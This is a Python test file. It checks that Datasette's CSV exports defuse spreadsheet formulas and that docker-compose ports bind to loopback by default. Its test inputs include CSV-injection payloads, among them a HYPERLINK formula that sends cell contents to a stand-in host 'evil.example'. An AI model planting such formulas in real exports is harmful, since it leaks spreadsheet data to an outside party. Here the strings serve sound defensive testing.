"""What the services hand out is safe: CSV exports cannot run formulas in a spreadsheet, and
published ports stay on this machine unless the operator says otherwise."""

from __future__ import annotations

import csv
import io
import socket
import sqlite3
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import yaml
from helpers import ROOT

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"clic")', "@SUM(A1:A9)", "+1+1", "-2*3", "\t=1", "Bol"]


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_datasette_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    db = tmp_path / "warehouse.db"
    con = sqlite3.connect(db)
    con.execute("create table products (name text, price real)")
    con.executemany("insert into products values (?, ?)", [(h, -3.5) for h in HOSTILE])
    con.commit()
    con.close()
    port = free_port()
    server = subprocess.Popen(
        [sys.executable, "-m", "datasette", "serve", str(db), "--host", "127.0.0.1", "--port", str(port),
         "--plugins-dir", str(ROOT / "datasette_plugins")],
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
    )  # fmt: skip
    try:
        base = f"http://127.0.0.1:{port}/warehouse"
        deadline = time.monotonic() + 30
        while True:
            try:
                urllib.request.urlopen(f"{base}.json", timeout=2)
                break
            except OSError:
                assert time.monotonic() < deadline and server.poll() is None, "datasette did not start"
                time.sleep(0.2)
        for query in (
            "/products.csv",
            "/products.csv?_stream=on",
            ".csv?sql=select+name,price+from+products",
        ):
            body = urllib.request.urlopen(base + query, timeout=10).read().decode("utf-8")
            rows = list(csv.DictReader(io.StringIO(body)))
            names = [r["name"] for r in rows]
            assert names == ["'" + h for h in HOSTILE[:5]] + ["Bol"], (query, names)
            assert {r["price"] for r in rows} == {"-3.5"}  # numbers stay numbers
        page = urllib.request.urlopen(f"{base}/products.json?_shape=array", timeout=10).read().decode()
        assert "=HYPERLINK" in page  # the data itself is unchanged: only the CSV export is guarded
    finally:
        server.terminate()
        server.wait(timeout=10)


def test_compose_publishes_ports_on_loopback_unless_told_otherwise() -> None:
    compose = yaml.safe_load((ROOT / "docker-compose.yml").read_text())
    published = [p for service in compose["services"].values() for p in service.get("ports", [])]
    assert published
    assert all(p.startswith("${PUBLISH_HOST:-127.0.0.1}:") for p in published), published
